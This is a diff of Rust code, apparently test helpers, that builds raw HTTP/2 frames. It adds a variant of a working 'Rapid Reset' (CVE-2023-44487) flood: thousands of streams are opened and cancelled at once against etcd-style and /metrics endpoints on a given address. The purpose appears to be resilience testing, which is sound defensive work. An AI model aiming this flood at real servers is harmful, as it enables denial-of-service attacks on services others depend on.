@@ -15,6 +15,7 @@ const PING: u8 = 6;
 const CONTINUATION: u8 = 9;
 const GO_AWAY: u8 = 7;
 const ACK: u8 = 1;
+const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 /// A connection that has to end does by then.
 const ENDS_WITHIN: Duration = Duration::from_secs(10);
@@ -50,8 +51,12 @@ fn header(name: &str, value: &[u8]) -> Vec<u8> {
 }
 
 fn request_head(path: &str) -> Vec<u8> {
+    head("POST", path)
+}
+
+fn head(method: &str, path: &str) -> Vec<u8> {
     [
-        header(":method", b"POST"),
+        header(":method", method.as_bytes()),
         header(":scheme", b"http"),
         header(":path", path.as_bytes()),
         header(":authority", b"localhost"),
@@ -96,13 +101,21 @@ fn read_away(stream: &mut TcpStream) {
 
 /// Streams that are begun and reset at once (CVE-2023-44487).
 pub(crate) fn rapid_reset(to: SocketAddr) {
+    reset_at_once(to, END_HEADERS, &request_head("/etcdserverpb.KV/Range"));
+}
+
+/// The same with pages that are made aside, and that nobody waits for.
+pub(crate) fn rapid_reset_of_pages(to: SocketAddr) {
+    reset_at_once(to, END_HEADERS | END_STREAM, &head("GET", "/metrics"));
+}
+
+fn reset_at_once(to: SocketAddr, flags: u8, head: &[u8]) {
     let Some(mut stream) = connect(to) else { return };
-    let head = request_head("/etcdserverpb.KV/Range");
     for batch in 0_u32..20 {
         let mut bytes = Vec::new();
         for number in 0..1000 {
             let id = (batch * 1000 + number) * 2 + 1;
-            bytes.extend(frame(HEADERS, END_HEADERS, id, &head));
+            bytes.extend(frame(HEADERS, flags, id, head));
             bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
         }
         if stream.write_all(&bytes).is_err() {
